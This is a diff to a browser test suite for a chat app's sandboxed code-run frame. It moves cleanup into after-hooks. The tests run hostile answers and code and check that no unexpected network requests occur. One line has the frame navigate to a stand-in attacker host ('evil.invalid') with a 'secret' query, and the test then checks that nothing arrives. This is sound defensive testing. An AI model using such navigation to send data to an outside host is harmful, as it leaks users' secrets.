@@ -45,9 +45,11 @@ const strange_nodes = (page) => page.evaluate(() => {
 });
 
 for (const headers of [true, false]) {
-  test(`${PAYLOADS.length} hostile answers, ${headers ? 'with' : 'without'} the server's policy`, { timeout: 400_000 }, async () => {
+  test(`${PAYLOADS.length} hostile answers, ${headers ? 'with' : 'without'} the server's policy`, { timeout: 400_000 }, async (t) => {
     const mock = await start_mock({ headers, token_ms: 0 });
+    t.after(mock.close);
     const { page, foreign, close } = await open_page(browser, mock.origin);
+    t.after(close);
     await page.evaluate(() => localStorage.setItem('reckon.keep_open', 'true'));
     await page.reload({ waitUntil: 'networkidle0' });
     const requests = mock.requests.length;
@@ -72,14 +74,14 @@ for (const headers of [true, false]) {
     assert.deepEqual(foreign, []);
     const allowed = /^(GET \/assets\/|POST \/v1\/chat\/completions|POST \/tokenize)/;
     assert.deepEqual(mock.requests.slice(requests).filter((one) => !allowed.test(one)), []);
-    await close();
-    await mock.close();
   });
 }
 
-test(`${RUN_PAYLOADS.length} hostile pieces of code in the Run frame`, { timeout: 300_000 }, async () => {
+test(`${RUN_PAYLOADS.length} hostile pieces of code in the Run frame`, { timeout: 300_000 }, async (t) => {
   const mock = await start_mock({ token_ms: 0 });
+  t.after(mock.close);
   const { page, close } = await open_page(browser, mock.origin);
+  t.after(close);
   const { SCRIPTS } = await import('./lib/scripts.mjs');
   const title = await page.title();
   for (const { name, code } of RUN_PAYLOADS) {
@@ -88,7 +90,6 @@ test(`${RUN_PAYLOADS.length} hostile pieces of code in the Run frame`, { timeout
     await ask(page, 'say:attack');
     await wait_done(page);
     await page.$eval('.code-head button', (button) => button.click());
-    if (process.env.TRACE) console.log(name, Math.round(performance.now()));
     // A worker that closed itself says nothing more; its run is stopped by hand.
     const ended = await page.waitForFunction(
       () => /Done|Failed/.test(document.querySelector('.run-head')?.textContent), { timeout: 4000 },
@@ -104,15 +105,15 @@ test(`${RUN_PAYLOADS.length} hostile pieces of code in the Run frame`, { timeout
   }
   assert.ok((await page.title()).endsWith('reckon'), title);
   assert.ok(!mock.requests.some((one) => one.includes('DELETE') || one.includes('/api/delete')));
-  await close();
-  await mock.close();
 });
 
 // The frame's own window, where its script listens, is attacked as well: what a hostile page could
 // do that frames it, and what the frame's document may do.
-test('the frame itself: opaque origin, no network, no way out', async () => {
+test('the frame itself: opaque origin, no network, no way out', async (t) => {
   const mock = await start_mock();
+  t.after(mock.close);
   const { page, close } = await open_page(browser, mock.origin);
+  t.after(close);
   await page.evaluate(() => {
     const frame = document.createElement('iframe');
     frame.setAttribute('sandbox', 'allow-scripts');
@@ -162,6 +163,4 @@ test('the frame itself: opaque origin, no network, no way out', async () => {
   await frame.evaluate(() => { location.href = 'http://evil.invalid/navigated?secret'; }).catch(() => {});
   await idle(300);
   assert.deepEqual(arrived(), []);
-  await close();
-  await mock.close();
 });
